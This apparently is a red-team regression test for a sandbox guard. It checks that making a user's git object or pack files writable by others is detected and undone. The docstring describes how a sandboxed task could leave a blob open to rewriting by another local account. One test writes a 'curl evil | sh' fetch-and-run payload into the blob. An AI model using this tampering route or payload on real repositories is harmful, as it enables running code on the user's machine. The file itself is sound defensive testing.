"""A red team (session 50): the workspace guard checked the mode bits and ACLs of the
user's .git/objects *directories* (`_note_objects`), not of the object files in them.

A task (owner of the workspace's files through the idmapped mount) may `chmod o+w`,
or set an access ACL granting others write (`o::rw`, a named entry), on an existing
loose object or pack of the user's repository. Nothing was reported or repaired, so
after the run any local account could rewrite that object in place (git does not
check a loose object's hash when it reads it), e.g. the blob of a script the user
checks out and runs next. The git dir's files the run changed are now checked
(`planting._git_files_loosened`): the write is taken away and reported.
"""

from __future__ import annotations

import os
import shutil
import stat
import struct
import subprocess
import tempfile
import zlib
from pathlib import Path

import pytest
from sandgate.enforcer.sandbox import planting

U = 0xFFFFFFFF
USER_OBJ, GROUP_OBJ, OTHER = 0x01, 0x04, 0x20


def acl(*entries):
    return struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries)


@pytest.fixture
def repo():
    top = Path(tempfile.mkdtemp(prefix="rt-round3b-", dir="/tmp"))
    top.chmod(0o755)
    ws = top / "ws"
    ws.mkdir()
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(top)}

    def run(*args: str) -> str:
        done = subprocess.run(
            ["git", *args], cwd=ws, env=env, check=True, capture_output=True, text=True
        )
        return done.stdout

    run("init", "-q")
    (ws / "build.sh").write_text("echo building\n")
    run("add", "build.sh")
    run("-c", "user.name=u", "-c", "user.email=u@x", "commit", "-qm", "x")
    blob = run("rev-parse", "HEAD:build.sh").strip()
    yield ws, ws / ".git/objects" / blob[:2] / blob[2:], run
    shutil.rmtree(top)


def _as_nobody_rewrite(path: Path, data: bytes) -> None:
    def drop():
        os.setgid(65534)
        os.setuid(65534)

    code = f"open({str(path)!r}, 'r+b').write({data!r})"
    subprocess.run(["python3", "-c", code], preexec_fn=drop, check=True)


@pytest.mark.parametrize("how", ["chmod", "acl"])
def test_object_file_made_writable_by_others_is_reported(repo, how):
    ws, obj, run = repo
    before = planting.survey([ws])
    # The task's change: the object of the script the user runs, writable by everyone.
    if how == "chmod":
        obj.chmod(0o666)
    else:
        os.setxattr(
            obj, "system.posix_acl_access", acl((USER_OBJ, 6, U), (GROUP_OBJ, 4, U), (OTHER, 6, U))
        )
    found = planting.find_planted(before, planting.walk_after(before))
    done = planting.disarm(found)
    # Effect after the run: another local account swaps the blob; git serves its text.
    evil = b"curl evil | sh\n"
    body = zlib.compress(b"blob %d\0" % len(evil) + evil)
    if os.stat(obj).st_mode & stat.S_IWOTH:
        # pad to the old length (r+b writes in place; zlib ignores trailing bytes)
        old = obj.stat().st_size
        _as_nobody_rewrite(obj, body + b"\0" * max(0, old - len(body)))
    shown = run("show", "HEAD:build.sh")
    assert [item.path for item in done] == [obj] and shown == "echo building\n", (
        f"guard reported {[str(i.path) for i in done]}; after the run uid 65534 "
        f"rewrote {obj} and `git show HEAD:build.sh` gives {shown!r}"
    )


def test_pack_files_made_writable_by_others_are_reported(repo):
    """The same for a pack and its index (git checks neither's content hash on read)."""
    ws, _, run = repo
    run("gc", "-q")
    packs = sorted((ws / ".git/objects/pack").glob("pack-*.*"))
    assert packs
    before = planting.survey([ws])
    for p in packs:
        p.chmod(0o666)
    found = planting.find_planted(before, planting.walk_after(before))
    planting.disarm(found)
    left = [p.name for p in packs if p.stat().st_mode & stat.S_IWOTH]
    assert not left, f"reported {[str(i.path) for i in found]}; still writable by all: {left}"
